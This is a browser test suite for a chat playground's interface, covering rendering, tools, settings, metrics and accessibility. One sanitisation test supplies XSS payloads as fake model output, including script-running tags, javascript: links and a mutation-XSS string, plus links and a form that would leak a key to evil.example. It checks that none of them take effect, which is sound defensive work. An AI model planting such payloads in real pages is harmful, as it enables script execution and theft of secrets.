// The playground in a real browser, against a real server. Pictures go to SCONCE_PICTURES.
import assert from "node:assert/strict";
import { readFileSync, writeFileSync } from "node:fs";
import { after, before, beforeEach, test } from "node:test";
import { createRequire } from "node:module";
import { chromium } from "playwright-core";

const { SCONCE_URL: url, SCONCE_KEY: key, SCONCE_CHROMIUM: executablePath, SCONCE_PICTURES: pictures } = process.env;
const axe = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");
// What a test needs of a model may take long on a machine that others use.
const PATIENCE = { timeout: 60_000 };

let browser;
let page;
let foreign;

before(async () => {
  browser = await chromium.launch({
    executablePath,
    args: ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync"],
  });
});
after(() => browser.close());

async function open({ viewport = { width: 1280, height: 800 }, colorScheme = "light", hash = `#key=${key}` } = {}) {
  const context = await browser.newContext({ viewport, colorScheme, acceptDownloads: true, permissions: ["clipboard-read", "clipboard-write"] });
  const page = await context.newPage();
  page.setDefaultTimeout(PATIENCE.timeout);
  foreign = [];
  page.on("request", (request) => {
    if (!request.url().startsWith(url) && !/^(data|blob):/.test(request.url())) foreign.push(request.url());
  });
  page.on("pageerror", (error) => foreign.push(`error: ${error.message}`));
  await page.goto(`${url}/${hash}`);
  return page;
}

/** Answers come from the test: what a model would have to be made to say. */
async function script(page, ...deltas) {
  const chunk = (delta, finish = null) => `data: ${JSON.stringify({ model: "m", choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`;
  const body = deltas.map((delta) => chunk(delta)).join("") + chunk({}, "stop") + "data: [DONE]\n\n";
  await page.route("**/v1/chat/completions", (route) => route.fulfill({ contentType: "text/event-stream", body }));
}

async function say(page, text) {
  await page.getByRole("textbox", { name: "Message", exact: true }).fill(text);
  await page.keyboard.press("Enter");
}

const TEXT = ":scope > .text";
const answers = (page) => page.locator("article.assistant");
const finished = (page, count = 1) => page.waitForFunction((count) => {
  const all = document.querySelectorAll("article.assistant");
  return all.length >= count && !document.querySelector("article.growing") && document.getElementById("stop").hidden;
}, count, PATIENCE);

async function set(page, tab, label, value) {
  if (await page.locator("#settings").isHidden()) await page.getByRole("button", { name: "Settings" }).click();
  await page.getByRole("tab", { name: tab }).click();
  const field = page.getByLabel(label);
  if (typeof value === "boolean") await field.setChecked(value);
  else await field.fill(value);
}

/** What of the page those can't use who see little, or use no mouse. */
async function obstacles(page) {
  await page.addScriptTag({ content: axe }).catch(() => page.evaluate(axe));
  const { violations } = await page.evaluate(() => axe.run(document, { runOnly: ["wcag2a", "wcag2aa", "wcag21aa"] }));
  return violations.map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html).join(" ").slice(0, 300)}`);
}

/** During a rollout: another version has a tenth, and a third one gets copies. */
async function split(page) {
  await page.route("**/metrics", async (route) => {
    const reply = await route.fetch();
    const text = (await reply.text()).replace(/^(sconce_route_share\{model_name="([^"]+)",.*) 1$/m, (_, first, name) => [
      `${first} 0.9`, `sconce_route_share{model_name="${name}",version="new@2"} 0.1`,
      `sconce_route_shadow_share{model_name="${name}",version="new@3"} 0.255`,
    ].join("\n"));
    await route.fulfill({ response: reply, body: text });
  });
}

beforeEach(async () => {
  await page?.context().close();
  page = await open();
  await page.waitForFunction(() => document.getElementById("model").value !== "");
});

test("a message is answered by the model, with its times, and kept", async () => {
  // Long enough for a slow browser to read it in more than one piece: of one piece no speed can be told.
  await set(page, "Sampling", "Most tokens", "120");
  await say(page, "Tell me a story about the sea.");
  await finished(page);

  const body = await answers(page).first().locator(TEXT).innerText();
  assert.ok(body.length > 0);
  assert.match(await answers(page).first().locator(".meta").innerText(), /first token \d+ ms · [\d.]+ tokens\/s · \d+ \+ \d+ tokens/);
  assert.equal(new URL(page.url()).hash, "", "the key left the address");
  await page.screenshot({ path: `${pictures}/chat.png` });

  await page.reload();
  await page.getByRole("button", { name: "Tell me a story about the sea.", exact: true }).click();
  assert.equal(await answers(page).first().locator(TEXT).innerText(), body);
  assert.deepEqual(foreign, []);
});

test("an answer can be stopped, made again, edited and branched", async () => {
  await set(page, "Sampling", "Most tokens", "2000");
  await say(page, "Write a long story about the sea.");
  await page.waitForFunction(() => document.querySelector("article.assistant > .text")?.innerText.length > 20, undefined, PATIENCE);
  // Told while it is being written.
  await page.waitForFunction(() => /first token \d+ ms · [\d.]+ tokens\/s/.test(document.querySelector(".growing .meta")?.innerText), undefined, PATIENCE);
  await page.keyboard.press("Escape");
  await finished(page);
  assert.match(await answers(page).first().locator(".meta").innerText(), /stopped/);

  await set(page, "Sampling", "Most tokens", "8");
  await answers(page).first().getByRole("button", { name: "Again" }).click();
  await finished(page);
  assert.match(await answers(page).first().locator("header").innerText(), /2\/2/);
  await answers(page).first().getByRole("button", { name: "Previous branch" }).click();
  assert.match(await answers(page).first().locator("header").innerText(), /1\/2/);

  await page.locator("article.user").getByRole("button", { name: "Edit" }).click();
  await page.getByRole("textbox", { name: "Edited message" }).fill("Say hello.");
  await page.keyboard.press("Enter");
  await finished(page);
  assert.equal(await page.locator("article.user > .text").innerText(), "Say hello.");
  assert.match(await page.locator("article.user header").innerText(), /2\/2/);
});

test("what a model writes can't run, reach another host or pass as the page", async () => {
  await page.evaluate(() => (globalThis.pwned = 0));
  await script(page, { content: [
    '<img src=x onerror="pwned=1"><script>pwned=2</script><svg onload="pwned=3"></svg>',
    '[a](javascript:pwned=4) <a href="javascript:pwned=5">b</a> <a href="data:text/html,<script>pwned=6</script>">c</a>',
    '<iframe srcdoc="<script>parent.pwned=7</script>"></iframe><form action="https://evil.example"><input name=key><button>Key</button></form>',
    '![leak](https://evil.example/?secret) <style>body{display:none}</style><div style="position:fixed;inset:0" id="send" class="primary">x</div>',
    '<math><mtext><table><mglyph><style><img src=x onerror=pwned=8></style></mglyph></table></mtext></math>',
    '$$\\href{javascript:pwned=9}{x} \\url{https://evil.example}$$',
    '```html\n<img src=x onerror="pwned=10">\n```',
  ].join("\n\n") });
  await say(page, "x");
  await finished(page);
  for (const link of await answers(page).locator("a").all()) {
    const href = await link.getAttribute("href");
    assert.match(href ?? "", /^https:\/\/evil\.example/);
    assert.equal(await link.getAttribute("rel"), "noopener noreferrer nofollow");
  }
  await page.waitForTimeout(300);

  assert.equal(await page.evaluate(() => globalThis.pwned), 0);
  const left = await answers(page).locator("script, iframe, form, input, style, svg, .text img, [onerror], [id]").count();
  assert.equal(left, 0);
  assert.equal(await answers(page).locator(".text [style]:not(math):not(math *)").count(), 0);
  assert.ok(await page.getByRole("button", { name: "Send" }).isVisible());
  assert.deepEqual(foreign, []);
});

test("markdown, code, tables and maths are set as they are meant", async () => {
  const text = "# Title\n\nSome **bold**, `code`, and $e^{i\\pi} = -1$; it costs $5 and $6.\n\n$$\\int_0^1 x^2\\,dx = \\frac13$$\n\n" +
    "| a | b |\n|---|---|\n| 1 | 2 |\n\n```rust\nfn main() { let x = \"s\"; } // c\n```\n\n- [x] done\n";
  await script(page, ...[...text].map((content) => ({ content })));
  await say(page, "x");
  await finished(page);
  const answer = answers(page).first();
  await answer.locator("math").nth(1).waitFor();
  await answer.locator(".hljs-keyword").first().waitFor();

  assert.equal(await answer.locator("h1").innerText(), "Title");
  assert.equal(await answer.locator("math").count(), 2);
  assert.match(await answer.locator(TEXT).locator("p").first().innerText(), /it costs \$5 and \$6/);
  assert.equal(await answer.locator("td").count(), 2);
  assert.match(await answer.locator("li").innerText(), /☑ done/);
  await answer.getByRole("button", { name: "Copy" }).first().click();
  assert.match(await page.evaluate(() => navigator.clipboard.readText()), /^fn main/);
  await page.screenshot({ path: `${pictures}/markdown.png` });
  assert.deepEqual(foreign, []);
});

test("thoughts are apart, and calls of tools wait for their results", async () => {
  const call = (part) => ({ tool_calls: [{ index: 0, ...part }] });
  await script(page, { reasoning_content: "Let me see." }, call({ id: "c1", function: { name: "get_weather", arguments: '{"city":' } }), call({ function: { arguments: '"Paris"}' } }));
  await set(page, "Tools", "Tools, as the API takes them", '[{"type":"function","function":{"name":"get_weather","parameters":{"type":"object"}}}]');
  await say(page, "Weather in Paris?");
  await finished(page);
  assert.equal(await answers(page).locator(".call pre").innerText(), '{"city":"Paris"}');
  await answers(page).locator("summary").click();
  assert.equal(await answers(page).locator(".thoughts .text").innerText(), "Let me see.");

  let sent;
  await page.route("**/v1/chat/completions", (route) => {
    sent = route.request().postDataJSON();
    return route.fulfill({ contentType: "text/event-stream", body: 'data: {"choices":[{"index":0,"delta":{"content":"Sunny."},"finish_reason":"stop"}]}\n\ndata: [DONE]\n\n' });
  });
  await page.getByRole("textbox", { name: "Result of get_weather" }).fill("sun");
  await page.getByRole("button", { name: "Give the result" }).click();
  await finished(page, 2);
  assert.equal(sent.tools.length, 1);
  assert.deepEqual(sent.messages.slice(1).map(({ role }) => role), ["assistant", "tool"]);
  assert.deepEqual(sent.messages[2], { role: "tool", content: "sun", tool_call_id: "c1" });
  assert.match(await answers(page).nth(1).innerText(), /Sunny\./);
});

test("a schema shapes the answer, and one that is no JSON is shown", async () => {
  const schema = '{"type":"object","properties":{"n":{"enum":[1,2]}},"required":["n"],"additionalProperties":false}';
  await set(page, "Schema", "JSON Schema of the answer", "{");
  await say(page, "A number, please.");
  assert.match(await page.locator("#status").innerText(), /The schema: /);
  await set(page, "Schema", "JSON Schema of the answer", schema);
  await page.getByRole("button", { name: "New conversation", exact: true }).click();
  await say(page, "A number, please.");
  await finished(page);
  assert.match(await answers(page).locator(TEXT).innerText(), /^\s*\{\s*"n"\s*:\s*[12]\s*\}\s*$/);
});

test("the heat map has the likelihood of every token", async () => {
  await set(page, "Sampling", "Most tokens", "6");
  await set(page, "Sampling", "Heat map of likelihoods", true);
  await say(page, "Hello");
  await finished(page);
  const tokens = answers(page).locator(".tokens .token");
  assert.ok((await tokens.count()) > 0 && (await tokens.count()) <= 6);
  await tokens.first().focus();
  assert.match(await answers(page).locator(".detail").innerText(), /% *\. /);
  await page.screenshot({ path: `${pictures}/heatmap.png` });
});

test("conversations are exported and imported", async () => {
  await script(page, { content: "An answer." });
  await say(page, "A question");
  await finished(page);
  const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Export" }).click()]);
  const file = `${pictures}/conversations.json`;
  await download.saveAs(file);
  const text = readFileSync(file, "utf8");
  assert.ok(!text.includes(key));

  await page.context().close();
  page = await open();
  await page.locator("#import-file").setInputFiles(file);
  await page.getByRole("button", { name: "A question", exact: true }).click();
  assert.match(await answers(page).first().innerText(), /An answer\./);
  const broken = `${pictures}/broken.json`;
  writeFileSync(broken, "{}");
  await page.locator("#import-file").setInputFiles(broken);
  await page.waitForFunction(() => /Nothing was imported/.test(document.getElementById("status").textContent));
});

test("the key is asked for, kept in the tab alone, and can be forgotten", async () => {
  await page.context().close();
  page = await open({ hash: "" });
  const dialog = page.locator("#key-dialog");
  await dialog.waitFor();
  await page.getByRole("textbox", { name: "API key" }).fill(key);
  await page.keyboard.press("Enter");
  await page.waitForFunction(() => document.getElementById("model").value !== "");
  assert.equal(await page.evaluate((key) => JSON.stringify(localStorage).includes(key), key), false);

  await page.getByRole("button", { name: "API key" }).click();
  await page.getByRole("button", { name: "Forget it" }).click();
  await dialog.waitFor();
  assert.equal(await page.evaluate(() => sessionStorage.length), 0);
});

test("a version is asked for by itself, and it is told what each gets", async () => {
  const picker = page.locator("#version");
  await page.waitForFunction(() => document.getElementById("version").options.length > 1);
  const [all, version] = await picker.locator("option").allTextContents();
  assert.equal(all, "as served");
  assert.match(version, /@\d+$/);
  await set(page, "Sampling", "Most tokens", "8");
  await picker.selectOption(version);
  const [request] = await Promise.all([page.waitForRequest("**/v1/chat/completions"), say(page, "Hello")]);
  assert.equal(request.postDataJSON().model, version);
  await finished(page);
  assert.ok((await answers(page).first().locator(".meta").innerText()).includes(version));

  await page.reload();
  await page.waitForFunction((version) => document.getElementById("version").value === version, version);
  await split(page);
  await page.locator("#model").focus();
  await picker.focus();
  await page.waitForFunction(() => document.getElementById("version").textContent.includes("90 %"));
  assert.deepEqual(await picker.locator("option").allTextContents(), [all, `${version} (90 %)`, "new@2 (10 %)", "new@3"]);
  assert.equal(await picker.inputValue(), version);
});

test("the server's state is shown live", async () => {
  await page.getByRole("tab", { name: "Server" }).click();
  await page.waitForFunction(() => /^\d/.test(document.querySelector(".number").textContent), undefined, PATIENCE);
  assert.equal(await page.locator(".chart").count(), 8);
  assert.match(await page.locator("#view-server").innerText(), /ready/);
  const names = page.locator("#view-server section", { has: page.getByRole("heading", { name: "Names" }) });
  assert.match(await names.locator("tbody").innerText(), /@\d+\s+100 %\s+–/);

  // A request of somebody's is seen.
  await page.evaluate((key) => {
    globalThis.hangUp = new AbortController();
    const body = JSON.stringify({ model: document.getElementById("model").value, messages: [{ role: "user", content: "Hi" }], stream: true, ignore_eos: true, max_tokens: 6000 });
    fetch("/v1/chat/completions", { method: "POST", body, headers: { "content-type": "application/json", authorization: `Bearer ${key}` }, signal: globalThis.hangUp.signal }).catch(() => {});
  }, key);
  const shown = (title) => page.waitForFunction((title) => parseFloat(document.querySelector(`.chart[aria-label="${title}"] .number`).textContent) > 0, title, PATIENCE);
  for (const title of ["Running", "KV cache", "Tokens generated per second", "Open streams"]) await shown(title);
  await page.evaluate(() => globalThis.hangUp.abort());

  await split(page);
  await names.getByText("90 %").waitFor();
  const rows = await names.locator("tbody tr").allInnerTexts();
  assert.deepEqual(rows.map((row) => row.split(/\t/).slice(1).map((cell) => cell.trim())).slice(1), [["new@2", "10 %", "–"], ["new@3", "–", "25.5 %"]]);
  assert.equal(await names.getByRole("meter").count(), 3);
  assert.deepEqual(await obstacles(page), []);
  await page.screenshot({ path: `${pictures}/server.png` });
});

test("the page fits, also on a phone, and has enough contrast in both colours", async () => {
  for (const [name, options] of [
    ["light", {}],
    ["dark", { colorScheme: "dark" }],
    ["phone", { viewport: { width: 375, height: 700 }, colorScheme: "dark" }],
  ]) {
    await page.context().close();
    page = await open(options);
    await page.waitForFunction(() => document.getElementById("model").value !== "");
    await script(page, { content: "Some `code` and a [link](https://example.org).\n\n```js\nlet a = \"b\"; // 1\n```" });
    await say(page, "Hello");
    await finished(page);
    assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth), `${name}: wider than the page`);
    await page.getByRole("button", { name: "Settings" }).click();
    assert.deepEqual(await obstacles(page), [], name);
    await page.screenshot({ path: `${pictures}/${name}.png` });
  }
  await page.getByRole("button", { name: "Settings" }).click();
  await page.getByRole("button", { name: "Conversations" }).click();
  assert.ok(await page.getByRole("button", { name: "New conversation", exact: true }).isVisible());
});

test("all that an answer may hold has enough contrast in both colours", async () => {
  const likelihoods = [0.95, 0.7, 0.4, 0.2, 0.05];
  const scores = likelihoods.map((it, i) => ({ token: ` t${i}`, logprob: Math.log(it), bytes: null, top_logprobs: [{ token: " x", logprob: Math.log(it), bytes: null }] }));
  const text = "# Title\n\n> quoted `code`, [a link](https://example.org), $x^2$\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```rust\n/// c\nfn main() { let x = \"s\"; println!(\"{}\", 1.5); }\n```\n";
  const call = { index: 0, id: "c1", function: { name: "look_up", arguments: "{}" } };
  const parts = [[{ reasoning_content: "Let me see." }], [{ content: text }, { content: scores }], [{ tool_calls: [call] }]];
  const chunks = parts.map(([delta, logprobs]) => `data: ${JSON.stringify({ model: "m", choices: [{ index: 0, delta, logprobs }] })}\n\n`);
  for (const colorScheme of ["light", "dark"]) {
    await page.context().close();
    page = await open({ colorScheme });
    await page.waitForFunction(() => document.getElementById("model").value !== "");
    await page.route("**/v1/chat/completions", (route) => route.fulfill({ contentType: "text/event-stream", body: chunks.join("") + "data: [DONE]\n\n" }));
    await say(page, "Hello");
    await finished(page);
    await answers(page).locator("math").first().waitFor();
    await answers(page).locator(".hljs-keyword").first().waitFor();
    await answers(page).locator("summary").click();
    assert.equal(await answers(page).locator(".heatmap .tokens .token").count(), scores.length);
    assert.deepEqual(await obstacles(page), [], colorScheme);
    await answers(page).screenshot({ path: `${pictures}/answer-${colorScheme}.png` });
  }
});

test("the colours are changed by a button, and stay so", async () => {
  const theme = () => page.evaluate(() => [document.documentElement.dataset.theme, getComputedStyle(document.body).backgroundColor]);
  const [, light] = await theme();
  await page.getByRole("button", { name: "Colours" }).click();
  const [name, dark] = await theme();
  assert.equal(name, "dark");
  assert.notEqual(dark, light);
  await page.reload();
  assert.deepEqual(await theme(), [name, dark]);
});

/** Goes once around the page with Tab. What was not reached, or does not show that it is. */
async function unreachable(page) {
  await page.evaluate(() => document.activeElement.blur());
  for (let i = 0; i < 150; i += 1) {
    await page.keyboard.press("Tab");
    const isRound = await page.evaluate(() => {
      const at = document.activeElement;
      if (at === document.body || at.dataset.reached) return at.dataset.reached !== undefined;
      const { outlineStyle, outlineWidth } = getComputedStyle(at);
      at.dataset.reached = outlineStyle !== "none" && parseFloat(outlineWidth) >= 2 ? "seen" : "unseen";
      return false;
    });
    if (isRound) break;
  }
  return page.evaluate(() => {
    const all = [...document.querySelectorAll("a[href], button, input, select, textarea, summary, [tabindex]")];
    const usable = all.filter((it) => it.checkVisibility() && !it.disabled && it.tabIndex >= 0);
    const missed = usable.filter((it) => it.dataset.reached !== "seen").map((it) => `${it.dataset.reached ?? "missed"}: ${it.outerHTML.slice(0, 120)}`);
    for (const it of all) delete it.dataset.reached;
    return missed;
  });
}

test("everything is reached, and used, by keyboard alone", async () => {
  const focused = () => page.evaluate(() => document.activeElement.getAttribute("aria-label") ?? document.activeElement.textContent);
  const press = async (...keys) => { for (const key of keys) await page.keyboard.press(key); };
  await script(page, { content: "Some `code`.\n\n```js\nlet a = 1;\n```" });
  // The message field has the focus from the start.
  await page.keyboard.type("Hello");
  await press("Enter");
  await finished(page);
  assert.deepEqual(await unreachable(page), []);

  await page.locator("#tab-chat").focus();
  await press("ArrowRight");
  assert.ok(await page.locator("#view-server").isVisible());
  assert.deepEqual(await unreachable(page), []);
  await page.locator("#tab-server").focus();
  await press("ArrowLeft");
  assert.ok(await page.locator("#view-chat").isVisible());

  await page.locator("#toggle-settings").focus();
  await press("Enter");
  for (const pane of ["prompt", "sampling", "tools", "schema"]) {
    assert.ok(await page.locator(`#settings-${pane}`).isVisible());
    assert.deepEqual(await unreachable(page), [], pane);
    await page.locator(`#settings-${pane}-tab`).focus();
    await press("ArrowRight");
  }

  // What was used keeps the focus, though the messages are drawn anew.
  await answers(page).getByRole("button", { name: "Again" }).focus();
  await press("Enter");
  await finished(page);
  assert.equal(await focused(), "Again");
  await answers(page).getByRole("button", { name: "Previous branch" }).focus();
  await press("Enter");
  assert.equal(await focused(), "Next branch");
  await page.getByRole("textbox", { name: "Message", exact: true }).focus();
  await press("ArrowUp");
  assert.equal(await focused(), "Edited message");
  await press("Escape");
  assert.equal(await focused(), "Edit");
});
